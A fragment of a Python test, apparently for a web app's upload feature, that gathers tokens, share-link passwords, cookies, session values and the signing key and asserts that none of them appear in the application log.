        "a part's signature": dict(parse_qsl(urlsplit(began["parts"][0]["url"]).query))["signature"],
        "a token": token,
        "a link": share,
        "a link's password": "open sesame",
        "a wrong password": "open barley",
        "a link's password, quoted": quote("open sesame"),
        "a password by HTTP Basic": base64.b64encode(b":open sesame").decode(),
        "a pass": next(iter(unlocked.cookies.values())),
        "a session": team.sessions["ben"],
        "a password": password_of("ben"),
        "the signing key": (team.app.data_dir / "secret_key").read_text(),
    }
    log = team.app.log
    assert "/api/ml/v1/uploads" in log
    assert [what for what, secret in secrets.items() if secret in log] == []
